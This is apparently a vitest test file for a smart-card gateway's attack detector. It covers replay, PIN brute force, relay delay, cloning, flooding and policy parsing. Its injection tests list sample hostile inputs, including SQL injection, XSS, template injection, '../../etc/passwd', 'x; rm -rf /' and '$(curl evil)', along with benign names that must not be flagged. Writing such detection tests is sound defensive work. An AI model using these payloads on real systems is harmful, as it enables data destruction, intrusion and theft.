import { describe, expect, it } from 'vitest'
import type { CardTiming, GatewayEvent } from '../../../gateway/findings/event.ts'
import type { Finding } from '../../../gateway/findings/finding.ts'
import { createJudge } from '../../../gateway/findings/judge.ts'
import { DEFAULT_POLICY, parsePolicy } from '../../../gateway/findings/policy.ts'
import { distanceKm } from '../../../gateway/findings/rules/clone.ts'
import { classifyText } from '../../../gateway/findings/rules/injection.ts'

const NOON = Date.UTC(2026, 0, 5, 12)
const here = { terminal: 'aaaaaaaaaaaaaaaa', site: 'Main street' }
const there = { terminal: 'bbbbbbbbbbbbbbbb', site: 'Harbour' }

function judgeAll(events: readonly GatewayEvent[], policy = DEFAULT_POLICY): readonly Finding[] {
  const judge = createJudge(policy)
  return events.flatMap((event) => judge.observe(event))
}

function logins(timings: readonly CardTiming[], card = 'card'): readonly GatewayEvent[] {
  return timings.map((timing, index) => ({ kind: 'login', at: NOON + index * 3_600_000, ...here, card, timing }))
}

describe('replay', () => {
  it('is found at the first replayed message, at the perception layer', () => {
    const found = judgeAll([{ kind: 'message', at: NOON, ...here, verdict: 'replay' }])
    expect(found).toMatchObject([{ kind: 'replay', layer: 'perception', terminal: here.terminal, response: 'notify' }])
  })

  it('is not seen in accepted messages and names no card', () => {
    expect(judgeAll([{ kind: 'message', at: NOON, ...here, verdict: 'accepted' }])).toEqual([])
  })

  it('lets a few forged messages pass and reports a burst once', () => {
    const forged = (n: number): GatewayEvent[] =>
      Array.from({ length: n }, (_, i) => ({ kind: 'message', at: NOON + i, ...here, verdict: 'forged' }))
    expect(judgeAll(forged(DEFAULT_POLICY.replay.forged.events))).toEqual([])
    expect(judgeAll(forged(50))).toHaveLength(1)
  })
})

describe('brute force', () => {
  const wrong = (n: number, proven: boolean, stepMs: number, card = 'card'): GatewayEvent[] =>
    Array.from({ length: n }, (_, i) => ({
      kind: 'wrong-pin',
      at: NOON + i * stepMs,
      ...(i % 2 === 0 ? here : there),
      card,
      proven,
      retriesLeft: 2,
    }))

  it('of a card that is present is found across terminals and answered by a block', () => {
    const found = judgeAll(wrong(9, true, 60_000))
    expect(found).toMatchObject([{ kind: 'brute-force-pin', layer: 'application', card: 'card', response: 'block-card' }])
  })

  it('of a card whose presence is not proven is never held against the card', () => {
    const found = judgeAll(wrong(200, false, 1_000))
    expect(found.length).toBeGreaterThan(0)
    for (const finding of found) {
      expect(finding.card).toBeUndefined()
      expect(finding.response).not.toBe('block-card')
    }
  })

  it('is not seen in three typing errors a day for a month', () => {
    const month = Array.from(
      { length: 90 },
      (_, i): GatewayEvent => ({
        kind: 'wrong-pin',
        at: NOON + i * 8 * 3_600_000,
        ...here,
        card: 'card',
        proven: true,
        retriesLeft: 2,
      }),
    )
    expect(judgeAll(month)).toEqual([])
  })

  it('of handshakes is held against the terminal', () => {
    const failed = Array.from(
      { length: 6 },
      (_, i): GatewayEvent => ({ kind: 'handshake', at: NOON + i, ...here, outcome: 'failed' }),
    )
    expect(judgeAll(failed)).toMatchObject([{ kind: 'brute-force-handshake', layer: 'perception', response: 'slow-down' }])
  })
})

describe('injection', () => {
  it.each([
    ['sql', "' OR '1'='1"],
    ['sql', "x'; DROP TABLE cards; --"],
    ['sql', "1' UNION SELECT puk FROM cards"],
    ['sql', "admin'--"],
    ['sql', "' AND 1=pg_sleep(5)"],
    ['template', '{{constructor.constructor("x")()}}'],
    ['template', `${'$'}{7*7}`],
    ['template', '<%= 7 * 7 %>'],
    ['markup', '<script>alert(1)</script>'],
    ['markup', '"><img src=x onerror=alert(1)>'],
    ['topic', 'tessera/1/gateway/in'],
    ['topic', 'tessera/+/#'],
    ['topic', '$share/gateway/x'],
    ['path', '../../etc/passwd'],
    ['command', 'x; rm -rf /'],
    ['command', '$(curl evil)'],
    ['directory', '*)(|(cn=*'],
    ['operator', '{"$ne": null}'],
    ['control', 'Anna\u0000'],
    ['control', 'Anna\u202e'],
    ['format', '%n%n%s'],
  ])('of the class %s is recognised in %j', (_, value) => {
    expect(classifyText(value)).toBeDefined()
  })

  it.each([
    "O'Brien",
    "D'Angelo",
    'Smith; Jones & Sons',
    'C++ Ltd.',
    'Anne-Marie',
    'Müller-Lüdenscheidt',
    'José María',
    'क्षत्रिय',
    'می‌خواهم',
    'Al-Said (jr.)',
    'Select Bank',
    'Union Street 5',
    'A/B Testing 100%',
    'Nr. 12#3',
    'Oder-Spree',
    'and Or',
    'X Æ A-12',
    'update pending',
    '20% off',
    'a/in-house',
    "L'Or",
    "T'pau or Not",
  ])('is not seen in the name %j', (value) => {
    expect(classifyText(value)).toBeUndefined()
  })

  it('is a body outside the schema, and names the operation', () => {
    const found = judgeAll([{ kind: 'schema', at: NOON, ...here, operation: 'login.begin' }])
    expect(found).toMatchObject([{ kind: 'injection', evidence: { class: 'schema', operation: 'login.begin' } }])
  })
})

describe('delay', () => {
  const steady = (n: number, verifyMs: number, signMs: number): CardTiming[] =>
    Array.from({ length: n }, (_, i) => ({ verifyMs: verifyMs + (i % 5) * 0.4, signMs: signMs + (i % 7) * 0.5 }))

  it('of 30 ms in both answers stands out against the card itself', () => {
    const found = judgeAll(logins([...steady(20, 25, 90), { verifyMs: 56, signMs: 121 }]))
    expect(found).toMatchObject([{ kind: 'delay', layer: 'perception', card: 'card', response: 'notify' }])
  })

  it('is not seen in a card that is always slow', () => {
    expect(judgeAll(logins(steady(60, 300, 900)))).toEqual([])
  })

  it('is not seen when only one of the two answers is late, as on a busy computer', () => {
    expect(judgeAll(logins([...steady(20, 25, 90), { verifyMs: 25, signMs: 190 }, { verifyMs: 125, signMs: 90 }]))).toEqual([])
  })

  it('of a relay that stays is reported each time: it cannot teach the card to be slow', () => {
    const relayed = Array.from({ length: 5 }, () => ({ verifyMs: 60, signMs: 125 }))
    expect(judgeAll(logins([...steady(20, 25, 90), ...relayed]))).toHaveLength(5)
  })

  it('is not seen at a slow reader once the reader is known', () => {
    const judge = createJudge(DEFAULT_POLICY)
    let late = 0
    for (let card = 0; card < 40; card += 1) {
      const known = logins(steady(10, 25, 90), `card ${card}`)
      for (const event of known) judge.observe(event)
      const atSlowReader: GatewayEvent = {
        kind: 'login',
        at: NOON + card * 60_000,
        ...there,
        card: `card ${card}`,
        timing: { verifyMs: 55, signMs: 122 },
      }
      const findings = judge.observe(atSlowReader)
      if (card >= 10) late += findings.length
    }
    expect(late).toBe(0)
  })
})

describe('clone', () => {
  it('is a card that is in a reader elsewhere while it logs in', () => {
    const found = judgeAll([{ kind: 'login', at: NOON, ...here, card: 'card', elsewhere: { ...there, at: NOON - 5_000 } }])
    expect(found).toMatchObject([{ kind: 'clone', card: 'card', response: 'block-card', severity: 'critical' }])
  })

  it('is a card that travels faster than the policy allows', () => {
    const event = (tookMs: number): GatewayEvent => ({
      kind: 'login',
      at: NOON,
      ...here,
      card: 'card',
      previous: { ...there, at: NOON - tookMs },
    })
    expect(judgeAll([event(60_000)])).toHaveLength(1)
    expect(judgeAll([event(600_000)])).toEqual([])
  })

  it('is not a card that moves between the desks of one site, nor one used again at the same reader', () => {
    const moved: GatewayEvent = {
      kind: 'login',
      at: NOON,
      ...here,
      card: 'card',
      previous: { terminal: there.terminal, site: here.site, at: NOON - 2_000 },
    }
    const again: GatewayEvent = { kind: 'login', at: NOON, ...here, card: 'card', previous: { ...here, at: NOON - 100 } }
    expect(judgeAll([moved, again])).toEqual([])
  })

  it('uses the distance between sites where their coordinates are known', () => {
    const berlin = { latitude: 52.52, longitude: 13.405 }
    const paris = { latitude: 48.8566, longitude: 2.3522 }
    expect(distanceKm(berlin, paris)).toBeGreaterThan(870)
    expect(distanceKm(berlin, paris)).toBeLessThan(885)
    const parsed = parsePolicy({ clone: { sites: { 'Main street': berlin, Harbour: paris } } })
    if (!parsed.ok) throw new Error(parsed.problems.join())
    const event = (minutes: number): GatewayEvent => ({
      kind: 'login',
      at: NOON,
      ...here,
      card: 'card',
      previous: { ...there, at: NOON - minutes * 60_000 },
    })
    expect(judgeAll([event(30)], parsed.policy)).toHaveLength(1)
    expect(judgeAll([event(90)], parsed.policy)).toEqual([])
  })
})

describe('flooding', () => {
  it('by a terminal is found once for each burst', () => {
    const burst = Array.from(
      { length: 1_000 },
      (_, i): GatewayEvent => ({ kind: 'message', at: NOON + i, ...here, verdict: 'accepted' }),
    )
    expect(judgeAll(burst)).toMatchObject([{ kind: 'flooding', layer: 'perception', response: 'slow-down' }])
  })

  it('is not seen in a desk that registers a batch of cards', () => {
    const batch = Array.from(
      { length: 2_000 },
      (_, i): GatewayEvent => ({ kind: 'message', at: NOON + i * 100, ...here, verdict: 'accepted' }),
    )
    expect(judgeAll(batch)).toEqual([])
  })
})

describe('the policy', () => {
  it('has a default for every value', () => {
    expect(parsePolicy({})).toEqual({ ok: true, policy: DEFAULT_POLICY })
  })

  it('names the path of each value that is wrong', () => {
    const parsed = parsePolicy({ delay: { response: 'explode' }, bruteForce: { cardWrongPins: { events: 0, windowMs: 1 } } })
    expect(parsed.ok).toBe(false)
    if (!parsed.ok)
      expect(parsed.problems.map((problem) => problem.split(':')[0]).sort()).toEqual([
        'bruteForce.cardWrongPins.events',
        'delay.response',
      ])
  })

  it('changes what the gateway answers', () => {
    const parsed = parsePolicy({ replay: { response: 'quarantine-terminal' } })
    if (!parsed.ok) throw new Error(parsed.problems.join())
    expect(judgeAll([{ kind: 'message', at: NOON, ...here, verdict: 'replay' }], parsed.policy)).toMatchObject([
      { response: 'quarantine-terminal' },
    ])
  })
})
